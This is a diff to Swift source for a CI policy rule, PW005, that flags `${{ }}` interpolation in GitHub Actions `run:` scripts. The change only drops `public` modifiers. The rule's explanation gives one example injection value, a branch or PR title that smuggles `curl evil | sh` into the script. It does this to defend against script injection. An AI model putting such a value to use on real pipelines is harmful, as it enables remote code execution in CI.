@@ -1,18 +1,18 @@
 /// PW005: scripts read values from environment variables, never from `${{ }}` interpolation.
-public struct NoExpressionsInRun: PolicyRule {
-    public init() {}
-    public let id = "PW005"
-    public let name = "no-expressions-in-run"
-    public let title = "No `${{ }}` in `run:` scripts; pass values through `env:`"
-    public let severity = Severity.error
-    public let tags = ["security", "injection"]
-    public let explanation = RuleExplanation(
+struct NoExpressionsInRun: PolicyRule {
+    init() {}
+    let id = "PW005"
+    let name = "no-expressions-in-run"
+    let title = "No `${{ }}` in `run:` scripts; pass values through `env:`"
+    let severity = Severity.error
+    let tags = ["security", "injection"]
+    let explanation = RuleExplanation(
         what: "Every `run:` script: no expression segment, and no literal `${{` text.",
         why: "Seed 000 §6.1 and §3.2 interpolated `${{ env.STACK_NAME }}` and `${{ github.event.inputs.* }}` straight into scripts. GitHub substitutes the value into the script's source before bash runs it, so a branch name, input or PR title such as `a\"; curl evil | sh; \"` becomes code (script injection, GitHub Security Lab's \"untrusted input\" advisory).",
         fix: "Move each value to the step's `env:` (`STACK_NAME: ${{ steps.prepare.outputs.stack-name }}`) and read it quoted in the script: `\"$STACK_NAME\"`."
     )
 
-    public func check(_ audit: WorkflowAudit) -> [Diagnostic] {
+    func check(_ audit: WorkflowAudit) -> [Diagnostic] {
         var findings: [Diagnostic] = []
         for job in audit.workflow.jobs {
             for (index, step) in job.steps.enumerated() {
